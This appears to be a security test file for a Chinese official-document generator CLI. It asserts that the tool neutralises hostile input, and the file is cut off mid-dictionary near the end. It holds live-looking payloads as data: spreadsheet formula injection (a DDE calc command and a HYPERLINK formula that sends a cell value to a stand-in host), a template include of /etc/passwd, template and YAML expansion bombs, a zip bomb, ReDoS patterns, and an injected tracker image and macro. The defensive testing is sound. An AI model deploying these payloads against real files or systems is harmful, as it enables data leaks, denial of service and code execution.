"""Hostile and broken input (issue #11): each test replays one attack found by trying every command
as an attacker and as a careless user would, and asserts the safe behaviour — no hang, no
MemoryError, no "程序内部错误", nothing written on error, no file whose permissions or link the tool
changed. Sizes are kept small where the bound, not the size, is what is tested."""
from __future__ import annotations

import copy
import csv
import io
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from conftest import run_cli

from generator import resources

EXAMPLES = resources.examples_dir()
POSIX = os.name == "posix"


def _failed(r, *expected: str) -> str:
    """Exit 2, one clear message, none of the signs of a crash."""
    assert r.exit_code == 2, r.output
    assert "Traceback" not in r.output and "程序内部错误" not in r.output, r.output
    for text in expected:
        assert text in r.output, r.output
    return r.output


def _nothing_in(directory: Path) -> bool:
    return not directory.exists() or not any(directory.iterdir())


def _edit(path: Path, old: str, new: str) -> Path:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return path


# --- 1. formula injection -------------------------------------------------------------------------
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/"&A1,"点此核对")', "+1+1", "-2+3", "@SUM(1+1)"]


def _roster_with(tmp_path: Path, names: list[str], branches: list[str]) -> Path:
    """The example roster as CSV, its first rows renamed and made to fail a check (so they are
    listed in the report)."""
    wb = openpyxl.load_workbook(EXAMPLES / "roster.xlsx")
    rows = [[c if c is not None else "" for c in r] for r in wb.active.iter_rows(values_only=True)]
    header = rows[0]
    for i, (name, branch) in enumerate(zip(names, branches), 1):
        rows[i][header.index("姓名")] = name
        rows[i][header.index("所在党支部")] = branch
        rows[i][header.index("确定积极分子日期")] = "2020-01-01"  # before the application: reported
    path = tmp_path / "花名册.csv"
    with open(path, "w", newline="", encoding="utf-8-sig") as fh:
        csv.writer(fh).writerows(rows)
    return path


def test_roster_report_csv_neutralises_formula_cells(runner, tmp_path):
    roster = _roster_with(tmp_path, FORMULAS, ["\t=1+2", "\r@A1", "一支部", "二支部", "三支部"])
    out = tmp_path / "检查.csv"
    r = run_cli(runner, "roster", "check", str(roster), "-o", str(out))
    assert r.exit_code in (0, 1), r.output
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_roster_report_xlsx_writes_formulas_as_text(runner, tmp_path):
    roster = _roster_with(tmp_path, FORMULAS, ["=1+2"] * 5)
    out = tmp_path / "检查.xlsx"
    r = run_cli(runner, "roster", "check", str(roster), "-o", str(out))
    assert r.exit_code in (0, 1), r.output
    ws = openpyxl.load_workbook(out).active
    seen = {c.value: c.data_type for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for formula in FORMULAS:
        assert seen.get(formula) == "s"  # a string cell: shown, never calculated
    assert "f" not in seen.values()
    with zipfile.ZipFile(out) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_approval_manifest_neutralises_branch_and_name_cells(runner, tmp_path):
    wb = openpyxl.load_workbook(EXAMPLES / "decisions.xlsx")
    ws = wb.active
    header = [c.value for c in ws[1]]
    cell = ws.cell(2, header.index("党支部") + 1)
    cell.value = "=HYPERLINK(\"http://x\",\"核对\")党支部"
    cell.data_type = "s"  # text in the sheet, as a user typing '= would have it
    decisions = tmp_path / "决定表.xlsx"
    wb.save(decisions)
    out = tmp_path / "out"
    r = run_cli(runner, "approve", str(EXAMPLES / "unit.yaml"), str(decisions), "-o", str(out), "--format", "md")
    assert r.exit_code == 0, r.output
    (manifest,) = out.glob("*.csv")
    cells = [c for row in csv.reader(io.StringIO(manifest.read_text(encoding="utf-8-sig"))) for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells), cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_neutralise_leaves_numbers_and_text_alone():
    from generator.infra.csvout import neutralise

    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5
    assert neutralise("柳溪村党支部") == "柳溪村党支部"
    assert neutralise("-某") == "'-某"


# --- 2. and 3. templates and clauses run with limits, and cannot change the shared context ---------
def _user_clause(directory: Path, body: str, cid: str = "开头-用户") -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"{cid}.md"
    path.write_text(f"---\nid: {cid}\nsection: 开头\nkinds: [plan]\nunits: [乡镇]\nweight: 1000\n---\n{body}\n",
                    encoding="utf-8")
    return path


TEMPLATE_BOMBS = {
    "nested-loops": ("为做好工作{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}，制定本计划。",
                     "循环或调用次数超过上限"),
    "multiply": ("{{ 'x' * 3000000000 }}为做好工作，制定本计划。", "文字超过上限"),
    "ljust": ("{{ 'x'.ljust(2000000000) }}为做好工作，制定本计划。", "超过上限"),
    "lipsum": ("{{ lipsum(1000000) }}为做好工作，制定本计划。", "lipsum"),
    "format": ("{{ '{:>1500000000}'.format(1) }}为做好工作，制定本计划。", "宽度"),
    "percent": ("{{ '%1000000000d' % 1 }}为做好工作，制定本计划。", "宽度"),
    "doubling": ("{% set a = 'x' * 1000000 %}{% set a = a ~ a %}{% set a = a ~ a %}{% set a = a ~ a %}{{ a }}",
                 "文字超过上限"),
    "power": ("{{ 2 ** 100000000 }}为做好工作，制定本计划。", "整数超过上限"),
    "recursion": ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "递归"),
    "nested-list": ("{{ [[1] * 1000000] * 1000000 }}", "文字超过上限"),
}


@pytest.mark.parametrize("name", sorted(TEMPLATE_BOMBS))
def test_user_clause_bombs_are_stopped_with_the_clause_named(runner, tmp_path, name):
    body, expected = TEMPLATE_BOMBS[name]
    clause = _user_clause(tmp_path / "语料", body)
    out = tmp_path / "out"
    r = run_cli(runner, "plan", str(EXAMPLES / "unit.yaml"), "--corpus", str(tmp_path / "语料"),
                "-o", str(out), "--format", "md")
    output = _failed(r, str(clause), "语料 开头-用户", expected)
    if name != "recursion":  # (a recursion has no one line to blame)
        assert "第8行" in output  # the body's line in the clause file
    assert _nothing_in(out)


def test_user_clause_cannot_forge_the_units_name(runner, tmp_path):
    clause = _user_clause(tmp_path / "语料", "{{ 单位.update({'简称': '假单位'}) }}为做好工作，制定本计划。")
    out = tmp_path / "out"
    r = run_cli(runner, "plan", str(EXAMPLES / "unit.yaml"), "--corpus", str(tmp_path / "语料"), "-o", str(out))
    _failed(r, str(clause), "语料 开头-用户", "不能修改共享的数据", "update")
    assert _nothing_in(out)


def test_corpus_check_blames_the_users_clause_not_a_built_in_one(runner, tmp_path):
    clause = _user_clause(tmp_path / "语料", "{{ 单位.update({'简称': '假单位'}) }}为做好工作，制定本计划。")
    r = run_cli(runner, "corpus", "check", "--corpus", str(tmp_path / "语料"))
    assert r.exit_code != 0
    problems = [line for line in r.output.splitlines() if "不能修改共享的数据" in line]
    assert problems and all(line.startswith(str(clause)) for line in problems), r.output
    assert "程序内部错误" not in r.output


def test_sandbox_bounds_hold_in_the_environment_itself():
    """The bounds as a library user meets them: a LimitError, quickly, whatever the template."""
    import jinja2

    from generator.infra.sandbox import BoundedEnvironment, LimitError

    env = BoundedEnvironment(undefined=jinja2.StrictUndefined)
    for source in ("{{ range(10)|batch(1000000000, 0)|list }}", "{{ range(10)|slice(1000000000)|list }}",
                   "{{ ('x' * 1000000)|replace('x', 'yyyyyyyy') }}", "{{ 'x'|center(2000000000) }}",
                   "{{ (1).to_bytes(1000000000, 'big') }}", "{{ '%*d' % (1000000000, 1) }}",
                   "{{ 'x'|indent(2000000000) }}"):
        with pytest.raises(LimitError):
            env.from_string(source).render()
    # ordinary templates are untouched
    assert env.from_string("{{ '%s'|format('甲') }}{{ 'a' ~ 'b' }}{{ '{:>3}'.format(1) }}"
                           "{% for i in range(3) %}{{ i }}{% endfor %}").render() == "甲ab  1012"


def _letterhead_with(tmp_path: Path, replacement: str) -> Path:
    src = zipfile.ZipFile(EXAMPLES / "letterhead.docx")
    path = tmp_path / "红头.docx"
    with zipfile.ZipFile(path, "w") as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "word/document.xml":
                data = data.decode().replace("{{ 署名 }}", replacement, 1).encode()
            z.writestr(copy.copy(info), data)
    return path


@pytest.mark.parametrize("replacement, expected", [
    ("{% include '/etc/passwd' %}", "不能使用 {% include %}"),
    ("{% extends 'x.docx' %}", "不能使用 {% include %}"),
    ("{% import 'x' as y %}", "不能使用 {% include %}"),
    ("{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}", "循环或调用次数超过上限"),
    ("{{ 'x' * 3000000000 }}", "文字超过上限"),
    ("{{ 附件.append(1) }}", "不能修改共享的数据"),
])
def test_letterhead_templates_are_bounded_and_stand_alone(runner, tmp_path, replacement, expected):
    letterhead = _letterhead_with(tmp_path, replacement)
    out = tmp_path / "out"
    r = run_cli(runner, "approve", str(EXAMPLES / "unit.yaml"), str(EXAMPLES / "decisions.xlsx"),
                "--letterhead", str(letterhead), "-o", str(out))
    _failed(r, str(letterhead), expected)
    assert _nothing_in(out)


# --- rule message templates ---------------------------------------------------------------------
def _config_with_rule(tmp_path: Path, rule_yaml: str) -> Path:
    (tmp_path / "规则.yaml").write_text(rule_yaml, encoding="utf-8")
    config = tmp_path / "gongwen.toml"
    config.write_text('[lint]\nrule_files = ["规则.yaml"]\n', encoding="utf-8")
    return config


@pytest.mark.parametrize("message, expected", [
    ("{match:>1500000000}", "宽度 1500000000 超过上限"),
    ("{match.__class__.__mro__}", "未知的名称“match.__class__.__mro__”"),
    ("{0}", "未知的名称“0”"),
    ("{correct}", "未知的名称“correct”"),  # an existence rule has no correct form
    ("{match", "写法有误"),
])
def test_broken_rule_message_templates_are_config_errors(runner, tmp_path, message, expected):
    config = _config_with_rule(tmp_path, "rules:\n  - id: house/x\n    type: existence\n    tokens: [计划]\n"
                                         f"    message: '{message}'\n")
    draft = tmp_path / "稿.txt"
    draft.write_text("本计划。\n", encoding="utf-8")
    r = run_cli(runner, "lint", str(draft), "--config", str(config))
    _failed(r, "规则 house/x", expected)


# --- 5. YAML alias bombs --------------------------------------------------------------------------
BOMB = "".join(
    f"{name}: &{name} [{', '.join(['*' + prev] * 9 if prev else ['lol'] * 9)}]\n"
    for prev, name in zip([None, "a", "b", "c", "d", "e", "f", "g"], "abcdefgh")
)


def test_alias_bomb_in_the_profile(runner, tmp_path):
    unit = tmp_path / "unit.yaml"
    unit.write_text(BOMB, encoding="utf-8")
    out = tmp_path / "out"
    _failed(run_cli(runner, "plan", str(unit), "-o", str(out)), "不支持 YAML 锚点和别名")
    assert _nothing_in(out)


def test_alias_bomb_in_clause_front_matter(runner, tmp_path):
    directory = tmp_path / "语料"
    directory.mkdir()
    (directory / "x.md").write_text("---\nid: 开头-炸\nsection: 开头\nkinds: [plan]\nunits: [乡镇]\n"
                                    + BOMB.replace("a:", "x_a:", 1) + "---\n正文。\n", encoding="utf-8")
    r = run_cli(runner, "plan", str(EXAMPLES / "unit.yaml"), "--corpus", str(directory), "-o", str(tmp_path / "o"))
    _failed(r, "不支持 YAML 锚点和别名")


def test_alias_bomb_in_rule_file_lint_config_and_md_front_matter(runner, tmp_path):
    draft = tmp_path / "稿.md"
    draft.write_text("本计划。\n", encoding="utf-8")
    rules = tmp_path / "规则.yaml"
    rules.write_text(BOMB + "rules: []\n", encoding="utf-8")
    config = tmp_path / "gongwen.yaml"
    config.write_text('lint:\n  rule_files: ["规则.yaml"]\n', encoding="utf-8")
    assert "不支持 YAML 锚点和别名" in run_cli(runner, "lint", str(draft), "--config", str(config)).output
    config.write_text(BOMB, encoding="utf-8")
    _failed(run_cli(runner, "lint", str(draft), "--config", str(config)), "不支持 YAML 锚点和别名")
    fronted = tmp_path / "前言.md"
    fronted.write_text("---\n" + BOMB + "---\n# 标题\n\n正文。\n", encoding="utf-8")
    r = run_cli(runner, "lint", str(fronted), "--no-config")
    assert "不支持 YAML 锚点和别名" in r.output and "程序内部错误" not in r.output


def test_merge_keys_and_recursive_aliases_are_refused_too():
    from generator.errors import InputError
    from generator.infra.yamlio import load_yaml_text

    for text in ("base: &b {x: 1}\nother:\n  <<: *b\n", "a: &a [*a]\n"):
        with pytest.raises(InputError, match="不支持 YAML 锚点和别名"):
            load_yaml_text(text, "x.yaml")


# --- 6. size bombs --------------------------------------------------------------------------------
def _xlsx_declaring_the_whole_sheet(path: Path) -> Path:
    """The example roster's sheet declaring A1:XFD1048576, with one cell in the last row and column."""
    src = zipfile.ZipFile(EXAMPLES / "roster.xlsx")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', data)
                data = data.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr">'
                                                      b"<is><t>x</t></is></c></row></sheetData>")
            z.writestr(info.filename, data)
    return path


def test_sheet_declaring_every_cell_is_read_as_the_rows_it_has(runner, tmp_path):
    from generator.roster.people import load_roster

    path = _xlsx_declaring_the_whole_sheet(tmp_path / "花名册.xlsx")
    roster = load_roster(path)
    original = load_roster(EXAMPLES / "roster.xlsx")
    assert [p.name for p in roster.people] == [p.name for p in original.people]
    assert [p.row for p in roster.people] == [p.row for p in original.people]


def test_too_many_rows_is_a_clear_message(monkeypatch, tmp_path):
    from generator.data import tables
    from generator.errors import InputError

    monkeypatch.setattr(tables, "MAX_ROWS", 10)
    with pytest.raises(InputError, match="超过 10 行"):
        tables.read_sheet(EXAMPLES / "roster.xlsx", {"姓名": ()}, ("姓名",))


def _docx_bomb(path: Path, declared: int) -> Path:
    """A .docx whose document.xml inflates to `declared` bytes of whitespace (compresses ~1000:1)."""
    src = zipfile.ZipFile(EXAMPLES / "letterhead.docx")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            if info.filename == "word/document.xml":
                head = src.read(info.filename)
                with z.open("word/document.xml", "w", force_zip64=True) as fh:
                    fh.write(head[:-len(b"</w:document>")])
                    chunk = b" " * (1 << 20)
                    for _ in range(declared >> 20):
                        fh.write(chunk)
                    fh.write(b"</w:document>")
            else:
                z.writestr(info.filename, src.read(info.filename))
    return path


def test_docx_zip_bomb_is_refused_before_inflating(runner, tmp_path):
    bomb = _docx_bomb(tmp_path / "炸弹.docx", 80 << 20)  # 80 MB of XML in ~80 KB
    assert bomb.stat().st_size < 1 << 20
    r = run_cli(runner, "lint", str(bomb), "--no-config")
    _failed(r, str(bomb), "word/document.xml", "已拒绝读取")
    out = tmp_path / "out"
    r = run_cli(runner, "approve", str(EXAMPLES / "unit.yaml"), str(EXAMPLES / "decisions.xlsx"),
                "--letterhead", str(bomb), "-o", str(out))
    _failed(r, "已拒绝读取")
    assert _nothing_in(out)


def test_csv_with_a_field_past_the_csv_limit(runner, tmp_path):
    path = tmp_path / "花名册.csv"
    path.write_text("姓名,所在党支部\n" + "x" * 200_000 + ",一支部\n", encoding="utf-8")
    _failed(run_cli(runner, "roster", "check", str(path)), str(path), "第2行", "超过 131,072 个字符")


def test_bom_less_utf16_csv_is_read(runner, tmp_path):
    from generator.data.tables import read_sheet

    path = tmp_path / "决定表.csv"
    text = "姓名,党支部\r\n张三,一支部\r\n"
    path.write_bytes(text.encode("utf-16-le"))
    sheet = read_sheet(path, {"姓名": (), "党支部": ()}, ("姓名", "党支部"))
    assert [(r.number, r.values["姓名"]) for r in sheet.rows] == [(2, "张三")]


def test_very_long_unit_name_is_refused_and_the_title_breaker_is_linear(runner, example_profile_path, tmp_path):
    from generator.writers.titles import split_title

    _edit(example_profile_path, "全称: 中共柳溪镇委员会", "全称: 中共" + "某" * 100_000 + "委员会")
    out = tmp_path / "out"
    _failed(run_cli(runner, "plan", str(example_profile_path), "-o", str(out)), "单位.全称", "太长")
    assert _nothing_in(out)
    title = "中共" + "某" * 100_000 + "委员会关于发展党员工作的计划"
    lines = split_title(title, 28)
    assert "".join(lines) == title and all(len(x) <= 28 for x in lines)


def test_fifo_or_device_given_directly_is_refused(runner, tmp_path):
    if not POSIX:
        pytest.skip("FIFOs and /dev/zero exist on POSIX systems only")
    fifo = tmp_path / "管道.txt"
    os.mkfifo(fifo)
    _failed(run_cli(runner, "lint", str(fifo), "--no-config"), "不是普通文件")
    _failed(run_cli(runner, "plan", "/dev/zero"), "不是普通文件")


# --- 7. ReDoS in user rule files ------------------------------------------------------------------
def test_catastrophic_user_pattern_is_stopped_by_its_time_bound(runner, tmp_path, monkeypatch):
    from generator.lint import yamlrules

    monkeypatch.setattr(yamlrules, "PATTERN_SECONDS", 0.2)
    config = _config_with_rule(tmp_path, "rules:\n  - id: house/慢\n    type: existence\n"
                                         "    patterns: ['(a|aa)+$']\n")
    draft = tmp_path / "稿.txt"
    draft.write_text("本计划。" + "a" * 60 + "!\n", encoding="utf-8")
    r = run_cli(runner, "lint", str(draft), "--config", str(config))
    assert "运行超过 0.2 秒，已跳过" in r.output and "house/慢" in r.output
    assert "程序内部错误" not in r.output


@pytest.mark.parametrize("pattern, expected", [("a{4294967296}", "写法有误"), ("a{100000}", "重复次数过大")])
def test_huge_repetition_counts_are_config_errors(runner, tmp_path, pattern, expected):
    config = _config_with_rule(tmp_path, f"rules:\n  - id: house/大\n    type: existence\n    patterns: ['{pattern}']\n")
    draft = tmp_path / "稿.txt"
    draft.write_text("本计划。\n", encoding="utf-8")
    _failed(run_cli(runner, "lint", str(draft), "--config", str(config)), "house/大", expected)


# Built-in patterns with a repeat inside a repeat that cannot backtrack: each inner repeat is
# separated by a character the repeated part cannot match.
_SAFE_NESTED = {
    "generator.lint.config._TABLE": "quoted TOML keys: an escape and a plain character start differently",
    "generator.lint.config._PAIR": "same",
    "generator.lint.config._DOTTED_PAIR": "same",
    "generator.lint.rules.junk._LATIN": "words separated by mandatory whitespace",
    "generator.lint.rules.junk._NOISE": "tokens separated by mandatory spaces",
    "generator.lint.rules.number._RATIO": "numbers separated by a colon, at most three times",
    "generator.lint.rules.number._NAMES": "names separated by 、",
    "generator.lint.rules.number._DECIDED": "names separated by 、",
    "generator.lint.rules.punct._REPEAT": "a back-reference to one character",
    "generator.lint.rules.era._PLENUMS": "plenums separated by 、/和, an optional 全会 each",
}


def test_built_in_patterns_have_no_catastrophic_shapes():
    import importlib
    import pkgutil

    import generator
    from generator.infra.regexguard import problem
    from generator.infra.yamlio import load_yaml

    found, risky = 0, {}
    for m in pkgutil.walk_packages(generator.__path__, "generator."):
        if m.name.startswith("generator.cli") or m.name.endswith("__main__"):
            continue
        for name, value in vars(importlib.import_module(m.name)).items():
            if isinstance(value, re.Pattern):
                found += 1
                reason = problem(value.pattern)
                if reason:
                    risky[f"{m.name}.{name}"] = reason
    for f in sorted((resources.snippets_dir() / "lint" / "rules").glob("*.yaml")):
        for rule in load_yaml(f)["rules"]:
            for p in rule.get("patterns") or []:
                found += 1
                reason = problem(p if isinstance(p, str) else p["pattern"])
                if reason:
                    risky[f"{f.name}:{rule['id']}"] = reason
    assert found > 50
    assert set(risky) <= set(_SAFE_NESTED), {k: v for k, v in risky.items() if k not in _SAFE_NESTED}
    assert set(_SAFE_NESTED) <= set(risky)  # an entry whose pattern changed is re-examined


def test_regexguard_tells_risky_from_safe():
    from generator.infra.regexguard import problem

    for risky in ("(a+)+$", "(a|aa)*b", "((ab)*c)*", "(a{2,3})*", "(a)\\1*b"):
        assert problem(risky), risky
    for safe in ("第[一二三四五六七八九十]+条", "(?:\\d+年)?\\d+月", "\\d{1,3}(,\\d{3})*", "（[一二三]）"):
        assert problem(safe) is None, safe


# --- 8. kill -9 mid-batch -------------------------------------------------------------------------
_KILL_AT_FIFTH_FILE = """
import os, signal, sys
from generator.infra import fileio
if sys.argv.pop(1) == "temp-names":
    fileio._O_TMPFILE = 0
real, calls = fileio._fill, []
def dying(fd, data):
    calls.append(fd)
    if len(calls) == 5:  # killed half way through writing the fifth file
        os.write(fd, data[: len(data) // 2])
        os.kill(os.getpid(), signal.SIGKILL)
    real(fd, data)
fileio._fill = dying
from generator.cli import main
main(sys.argv[1:])
"""


def _complete(path: Path) -> bool:
    """A .docx whose zip reads to the end with every CRC right, a .md that ends its last line."""
    import zipfile

    if path.suffix == ".docx":
        try:
            with zipfile.ZipFile(path) as z:
                return z.testzip() is None and "word/document.xml" in z.namelist()
        except zipfile.BadZipFile:
            return False
    return path.read_bytes().endswith(b"\n")


@pytest.mark.parametrize("way", ["unnamed", "temp-names"])
def test_kill_9_mid_batch_leaves_no_empty_file_and_the_next_run_takes_the_lock_over(tmp_path, way):
    if not POSIX:
        pytest.skip("SIGKILL is POSIX")
    out, register = tmp_path / "out", tmp_path / "登记簿.yaml"
    args = ["approve", str(EXAMPLES / "unit.yaml"), str(EXAMPLES / "decisions.xlsx"), "-o", str(out),
            "--register", str(register)]
    r = subprocess.run([sys.executable, "-c", _KILL_AT_FIFTH_FILE, way, *args], capture_output=True, text=True,
                       timeout=300)
    assert r.returncode == -signal.SIGKILL
    finals = [p for p in out.iterdir() if not p.name.startswith(".~gongwen-")]
    assert len(finals) == 4 and all(_complete(p) for p in finals)  # the four written before, whole
    # the one being written had no name yet (O_TMPFILE: nothing is left), or a temp name the next
    # run removes
    temps = [p for p in out.iterdir() if p.name.startswith(".~gongwen-")]
    from generator.infra.fileio import _O_TMPFILE
    assert len(temps) == (0 if way == "unnamed" and _O_TMPFILE else 1)
    assert (tmp_path / "登记簿.yaml.lock").exists()
    again = subprocess.run([sys.executable, "-m", "generator", *args, "--force"], capture_output=True,
                           text=True, timeout=300)
    assert again.returncode == 0, again.stderr + again.stdout
    assert "已接管" in again.stdout and "已结束" in again.stdout
    assert not (tmp_path / "登记簿.yaml.lock").exists()
    assert not [p for p in out.iterdir() if p.name.startswith(".~gongwen-")]  # stale temp removed
    assert all(p.stat().st_size > 0 for p in out.iterdir())


def test_a_live_lock_still_blocks(tmp_path):
    from generator.data.register import Register
    from generator.errors import OutputError

    register = tmp_path / "登记簿.yaml"
    with Register(register):
        with pytest.raises(OutputError, match="其进程仍在运行"):
            with Register(register):
                pass
    assert not (tmp_path / "登记簿.yaml.lock").exists()


def test_lock_of_an_ended_process_is_taken_over(tmp_path):
    from generator.data.register import Register

    child = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    dead = int(child.stdout)
    (tmp_path / "登记簿.yaml.lock").write_text(f"pid={dead}\nhost={__import__('socket').gethostname()}\n",
                                               encoding="utf-8")
    with Register(tmp_path / "登记簿.yaml") as reg:
        assert reg.notes and f"进程 {dead} 已结束" in reg.notes[0]


# --- 9. lint --fix --in-place keeps mode, link and hard links -------------------------------------
def test_fix_in_place_keeps_mode_symlink_and_hard_links(runner, tmp_path):
    if not POSIX:
        pytest.skip("file modes, symlinks and hard links as tested here are POSIX")
    draft = tmp_path / "稿.txt"
    draft.write_text("本计划,是为做好工作.\n", encoding="utf-8")
    draft.chmod(0o600)
    link = tmp_path / "链接.txt"
    link.symlink_to(draft.name)
    hard = tmp_path / "硬链接.txt"
    os.link(draft, hard)
    inode = draft.stat().st_ino
    r = run_cli(runner, "lint", "--fix", "--in-place", str(link), "--no-config")
    assert r.exit_code in (0, 1), r.output
    assert link.is_symlink() and os.readlink(link) == draft.name
    assert stat.S_IMODE(draft.stat().st_mode) == 0o600
    assert draft.stat().st_ino == inode and hard.stat().st_ino == inode
    assert "，" in draft.read_text(encoding="utf-8") and hard.read_text(encoding="utf-8") == draft.read_text(encoding="utf-8")


def test_fix_in_place_keeps_mode_of_a_file_with_one_name(runner, tmp_path):
    if not POSIX:
        pytest.skip("file modes as tested here are POSIX")
    draft = tmp_path / "稿.txt"
    draft.write_text("本计划,是为做好工作.\n", encoding="utf-8")
    draft.chmod(0o640)
    r = run_cli(runner, "lint", "--fix", "--in-place", str(draft), "--no-config")
    assert r.exit_code in (0, 1), r.output
    assert stat.S_IMODE(draft.stat().st_mode) == 0o640
    assert "，" in draft.read_text(encoding="utf-8")
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".~gongwen-")]


# --- 10. demo keeps what the user edited ----------------------------------------------------------
def test_demo_rerun_does_not_overwrite_an_edited_file(runner, tmp_path):
    out = tmp_path / "demo"
    assert run_cli(runner, "demo", "-o", str(out)).exit_code == 0
    assert run_cli(runner, "demo", "-o", str(out)).exit_code == 0  # unchanged files: regenerated freely
    edited = sorted(out.glob("*.md"))[0]
    edited.write_text(edited.read_text(encoding="utf-8") + "\n本单位补充的一段。\n", encoding="utf-8")
    before = edited.read_bytes()
    _failed(run_cli(runner, "demo", "-o", str(out)), edited.name, "--force")
    assert edited.read_bytes() == before
    assert run_cli(runner, "demo", "-o", str(out), "--force").exit_code == 0
    assert edited.read_bytes() != before


def test_demo_into_a_folder_of_the_users_files_refuses(runner, tmp_path):
    out = tmp_path / "demo"
    assert run_cli(runner, "demo", "-o", str(out)).exit_code == 0
    target = sorted(out.glob("*.md"))[0]
    shutil.rmtree(out)
    out.mkdir()
    target.write_text("用户自己的文件\n", encoding="utf-8")
    _failed(run_cli(runner, "demo", "-o", str(out)), target.name)
    assert target.read_text(encoding="utf-8") == "用户自己的文件\n"


# --- 11. lint of a folder, config discovery ------------------------------------------------------
def test_folder_lint_does_not_follow_links_out_of_the_folder(runner, tmp_path):
    if not POSIX:
        pytest.skip("symlinks need privileges on Windows")
    secret = tmp_path / "外面" / "秘密.txt"
    secret.parent.mkdir()
    secret.write_text("机密内容不应被读出\n", encoding="utf-8")
    folder = tmp_path / "草稿"
    folder.mkdir()
    (folder / "稿.txt").write_text("本计划。\n", encoding="utf-8")
    (folder / "链接.txt").symlink_to(secret)
    (folder / "内部链接.txt").symlink_to(folder / "稿.txt")  # inside the tree: followed
    r = run_cli(runner, "lint", str(folder), "--no-config", "--format", "json")
    assert "机密内容" not in r.output
    assert "链接.txt：是指向目录之外的链接，未检查" in r.output
    assert "内部链接.txt" in r.output.split("是指向目录之外")[0] or "内部链接.txt" in r.output


def test_config_discovery_stops_at_the_project_root(tmp_path, monkeypatch):
    from generator.lint.config import find_config

    (tmp_path / "gongwen.toml").write_text("[lint]\n", encoding="utf-8")
    project = tmp_path / "项目"
    (project / ".git").mkdir(parents=True)
    (project / "子目录").mkdir()
    assert find_config(project / "子目录") is None  # the file above the repository is not used
    (project / "gongwen.toml").write_text("[lint]\n", encoding="utf-8")
    assert find_config(project / "子目录") == (project / "gongwen.toml").resolve()
    monkeypatch.setattr(Path, "home", classmethod(lambda cls: tmp_path / "家"))
    (tmp_path / "家" / "文档").mkdir(parents=True)
    assert find_config(tmp_path / "家" / "文档") is None  # not above the home directory


# --- 12. --annotate copies ------------------------------------------------------------------------
def _docx_with_external_parts(tmp_path: Path, runner) -> Path:
    out = tmp_path / "gen"
    assert run_cli(runner, "plan", str(EXAMPLES / "unit.yaml"), "-o", str(out), "--format", "docx").exit_code == 0
    (src,) = out.glob("*.docx")
    path = tmp_path / "草稿.docx"
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as w:
        for name in z.namelist():
            data = z.read(name)
            if name == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>",
                                    b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/'
                                    b'2006/relationships/image" Target="http://tracker.example/pixel.png" '
                                    b'TargetMode="External"/><Relationship Id="rIdX2" Type="http://schemas.openxmlformats'
                                    b'.org/officeDocument/2006/relationships/hyperlink" Target="https://www.12371.cn/" '
                                    b'TargetMode="External"/><Relationship Id="rIdX3" Type="http://schemas.microsoft.com/'
                                    b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
            if name == "[Content_Types].xml":
                data = data.replace(b"</Types>", b'<Override PartName="/word/vbaProject.bin" '
                                                 b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
            w.writestr(name, data)
        w.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    return path


def test_annotated_copy_drops_macros_and_external_targets(runner, tmp_path):
    draft = _docx_with_external_parts(tmp_path, runner)
    first = tmp_path / "批注1.docx"
    r = run_cli(runner, "lint", str(draft), "--annotate", "-o", str(first), "--no-config")
    assert r.exit_code in (0, 1), r.output
    with zipfile.ZipFile(first) as z:
        names = z.namelist()
        rels = z.read("word/_rels/document.xml.rels").decode()
        times = {i.date_time for i in z.infolist()}
    assert "word/vbaProject.bin" not in names and "vbaProject" not in rels
    assert "tracker.example" not in rels and 'Target="#"' in rels
    assert "https://www.12371.cn/" in rels  # a hyperlink is the reader's to click
    assert len(times) == 1  # one fixed time, like every output
    second = tmp_path / "批注2.docx"
    run_cli(runner, "lint", str(draft), "--annotate", "-o", str(second), "--no-config")
    assert first.read_bytes() == second.read_bytes()


# --- 13. bad values -------------------------------------------------------------------------------
PROFILE_ATTACKS = {
    "huge integer": ("发展党员: 15", "发展党员: " + "9" * 5000, "数字位数过多"),
    "big integer": ("党员总数: 1286", "党员总数: " + "9" * 30, "数字过大"),
    "!!set": ("全称: 中共柳溪镇委员会", "全称: !!set {a, b}", "不支持的 YAML 标记"),
    "!!binary": ("简称: 柳溪镇党委", "简称: !!binary aGVsbG8=", "不支持的 YAML 标记"),
    "year 9999": ("成文日期: 2025-02-18", "成文日期: 9999-12-31", "年份9999"),
    "year 0001": ("成文日期: 2025-02-18", "成文日期: 0001-01-01", "年份1"),
    "1e-300%": ("女: 35%", "女: 1e-300%", "应为百分数"),
    "nan": ("女: 35%", "女: .nan", "应为百分数"),
    "inf": ("女: 35%", "女: .inf", "0%—100%"),
